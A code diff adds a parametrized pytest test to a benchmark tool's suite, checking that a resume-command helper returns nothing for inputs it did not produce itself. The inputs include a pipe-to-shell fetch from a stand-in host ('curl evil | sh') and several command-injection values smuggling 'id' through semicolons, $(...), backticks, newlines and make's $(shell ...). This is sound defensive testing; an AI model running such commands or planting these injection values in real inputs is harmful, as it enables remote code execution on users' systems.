@@ -82,6 +82,24 @@ def test_the_command_of_more_repeats(resume, command):
     assert extend_command(Manifest(run_id="r", started_at=1.0, resume=resume), 9) == command
 
 
+@pytest.mark.parametrize(
+    "resume",
+    [
+        "curl evil | sh",
+        "bakeoff bench --resume r; id",
+        "bakeoff bench --resume $(id)",
+        "bakeoff bench --resume r\nid",
+        "bakeoff bench",
+        "make bench 'RUN=$(shell id)'",
+        "make bench RUN=r id",
+        "make bench RUN=`id`",
+        "bakeoff bench --resume 'r",
+    ],
+)
+def test_a_command_of_somebody_elses_making_is_not_told(resume):
+    assert extend_command(Manifest(run_id="r", started_at=1.0, resume=resume), 9) == ""
+
+
 def test_a_run_has_one_writer(tmp_path):
     folder = a_run(tmp_path)
     with (
